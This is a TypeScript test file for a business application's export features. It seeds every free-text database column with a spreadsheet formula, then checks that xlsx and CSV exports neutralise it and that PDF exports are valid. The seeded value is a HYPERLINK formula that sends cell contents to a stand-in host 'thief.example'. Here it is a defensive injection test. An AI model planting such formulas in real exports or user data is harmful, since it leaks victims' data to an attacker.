/**
 * No exported table starts a formula in a spreadsheet: every export of the contract, from a company in which
 * every text that a user may enter begins like a formula.
 */
import { inflateRawSync } from "node:zlib";
import type { AnyCall } from "@larder/domain/kernel/calls";
import { afterAll, beforeAll, expect, test } from "vitest";
import { nameOf, openTried, type Tried } from "./tried.ts";

let tried: Tried;
beforeAll(async () => {
  // Documents contain the names of products and customers, and their numbers, as they were when created.
  tried = await openTried();
  await keyFormulas(tried.ours.tenantId);
}, 60_000);
afterAll(() => tried.world.close());

const FORMULA = '=HYPERLINK("http://thief.example/?"&A1)';

/** Every text column with free text, not restricted to a few values. */
async function keyFormulas(tenantId: string): Promise<void> {
  const columns = await tried.world.rows<{ table: string; column: string }>(
    tenantId,
    `select c.relname as "table", a.attname as "column" from pg_class c join pg_attribute a on a.attrelid = c.oid and a.attnum > 0 and not a.attisdropped
      where c.relkind = 'r' and c.relnamespace = 'public'::regnamespace and a.atttypid = 'text'::regtype
        and a.attname ~ '(name|remark|address|note|contact|description|intro|reference|reason|title|oper_param|error_msg)'
        and exists (select 1 from pg_attribute t where t.attrelid = c.oid and t.attname = 'tenant_id')
        and c.relname not in ('tenant', 'idempotency', 'search_word')`,
  );
  for (const { table, column } of columns) {
    // If names are unique, or a rule restricts the content, the column keeps its value.
    await tried.world
      .rows(tenantId, `update "${table}" set "${column}" = $2 where tenant_id = $1`, [tenantId, FORMULA])
      .catch(() => {});
  }
}

const isExport = (call: AnyCall) => call.answer === "file" && /export|template/i.test(call.path);

/** The files of a workbook by name, read from the zip directory at its end and inflated. */
function unzipped(bytes: Buffer): Map<string, string> {
  const files = new Map<string, string>();
  for (
    let at = bytes.indexOf("PK\u0001\u0002", 0, "latin1");
    at >= 0;
    at = bytes.indexOf("PK\u0001\u0002", at + 4, "latin1")
  ) {
    const [method, size, nameLength, start] = [
      bytes.readUInt16LE(at + 10),
      bytes.readUInt32LE(at + 20),
      bytes.readUInt16LE(at + 28),
      bytes.readUInt32LE(at + 42),
    ];
    const name = bytes.toString("utf8", at + 46, at + 46 + nameLength);
    const data = start + 30 + bytes.readUInt16LE(start + 26) + bytes.readUInt16LE(start + 28);
    const packed = bytes.subarray(data, data + size);
    files.set(name, (method === 0 ? packed : inflateRawSync(packed)).toString("utf8"));
  }
  return files;
}

/** Everything, or, where a call requires a record, that record. */
function fetched(call: AnyCall, input: Record<string, unknown>): Promise<Response> {
  const client = tried.isOperators(call) ? tried.operator : tried.admin;
  const needs = !call.input.safeParse({}).success;
  return client.fetch(call, { ...(needs ? tried.asked(call) : {}), ...input });
}

test("in no cell of any export", { timeout: 60_000 }, async () => {
  const wrong: string[] = [];
  let quoted = 0;
  const exports = tried.calls.filter(isExport);
  expect(exports.length).toBeGreaterThan(8);
  for (const call of exports) {
    const response = await fetched(call, {});
    const bytes = Buffer.from(await response.arrayBuffer());
    const type = response.headers.get("content-type") ?? "";
    if (type.startsWith("application/json")) wrong.push(`${nameOf(call)}: ${bytes.toString().slice(0, 200)}`);
    else {
      for (const [part, text] of unzipped(bytes)) {
        if (!part.startsWith("xl/")) continue;
        if (part.startsWith("xl/worksheets/") && /<f[ >]/.test(text))
          wrong.push(`${nameOf(call)}: a formula in ${part}`);
        if (/externalLink|ddeLink|<definedName/.test(text)) wrong.push(`${nameOf(call)}: a link to outside in ${part}`);
        if (text.includes("HYPERLINK")) quoted++;
      }
    }
  }
  expect(wrong).toEqual([]);
  expect(quoted, "the formulas were there, as text").toBeGreaterThan(5);
});

/** What an import changes is downloaded where a file was checked: the price file's own story does. */
const chosen = (call: AnyCall) => call.business === "export" && !call.path.includes("/imports/");
const isJson = (response: Response) => (response.headers.get("content-type") ?? "").startsWith("application/json");

test("nor in any as CSV, which every list offers", { timeout: 60_000 }, async () => {
  const wrong: string[] = [];
  let quoted = 0;
  for (const call of tried.calls.filter(chosen)) {
    const response = await fetched(call, { exportAs: "csv" });
    const text = await response.text();
    const name = decodeURIComponent(response.headers.get("download-filename") ?? "");
    if (isJson(response) || !name.endsWith(".csv")) wrong.push(`${nameOf(call)}: ${text.slice(0, 200)}`);
    // A cell that begins with a sign is a number, or its sign is not its first letter.
    if (/(?:^|,)"?(?:[=+@]|-(?!\d+(?:\.\d+)?"?(?:,|\r|$)))/m.test(text.replace("\ufeff", "")))
      wrong.push(`${nameOf(call)}: a formula in ${text.slice(0, 400)}`);
    if (text.includes("'=HYPERLINK")) quoted++;
  }
  expect(wrong).toEqual([]);
  expect(quoted, "the formulas were there, as text").toBeGreaterThan(5);
});

test("and every list is printed as a PDF", { timeout: 120_000 }, async () => {
  const wrong: string[] = [];
  const exports = tried.calls.filter(chosen);
  expect(exports.length).toBeGreaterThan(40);
  for (const call of exports) {
    const response = await fetched(call, { exportAs: "pdf" });
    const bytes = Buffer.from(await response.arrayBuffer());
    if (!bytes.subarray(0, 5).equals(Buffer.from("%PDF-")))
      wrong.push(`${nameOf(call)}: ${bytes.toString().slice(0, 300)}`);
  }
  expect(wrong).toEqual([]);
});
